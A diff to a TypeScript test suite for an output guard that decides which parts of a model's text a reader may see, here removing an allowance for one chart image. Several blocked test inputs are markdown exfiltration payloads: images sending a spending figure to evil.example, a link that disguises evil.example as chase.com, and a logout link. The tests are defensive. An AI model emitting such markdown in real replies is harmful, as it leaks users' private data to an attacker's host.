@@ -5,7 +5,6 @@ import { Guard } from "./guard.ts";
 const KEEP = {
   figure: ({ text }: { text: string }) => `<${text}>`,
   name: (word: string) => word.toLowerCase() === "amazon.com",
-  chart: (id: number) => id === 7,
 };
 const through = (pieces: readonly string[]): string[] => {
   const guard = new Guard(KEEP);
@@ -25,7 +24,6 @@ describe("what a reader may see of a model's text", () => {
     ["Groceries came to $612.48 in October. Fine.", "Groceries came to <$612.48> in October. Fine."],
     ["| Category | Total |\n|---|---:|\n| Groceries | $612.48 |\n", "| Category | Total |\n|---|---:|\n| Groceries | <$612.48> |\n"],
     ["You bought from Amazon.com twice.", "You bought from Amazon.com twice."],
-    ["![Spending](/charts/7/image/) shows it.", "![Spending](/charts/7/image/) shows it."],
     ["Less is more, e.g. on coffee. OK.", "Less is more, e.g. on coffee. OK."],
     ["The U.S. market fell by 3.5% at 10 a.m. today.", "The U.S. market fell by 3.5% at 10 a.m. today."],
     ["Your credit card balance is $5.00.", "Your credit card balance is <$5.00>."],
@@ -42,7 +40,7 @@ describe("what a reader may see of a model's text", () => {
     ["an unfinished link", "Look [here](https://ev", /https|\(/],
     ["an unfinished picture", "Look ![x](https://evil", /https|!\[/],
     ["a picture", "![x](https://evil.example/?d=612.48)", /evil|!\[/],
-    ["a picture of a stranger's chart", "![x](/charts/8/image/)", /charts/],
+    ["a picture of a chart", "![x](/charts/8/image/)", /charts/],
     ["a picture by reference", "![x][r]\n\n[r]: https://evil.example/?d=\n", /evil|!\[/],
     ["a path with an effect", "[open](/auth/logout/)", /logout|\]\(/],
     ["a name before the host", "[chase.com](https://chase.com@evil.example)", /evil|@/],
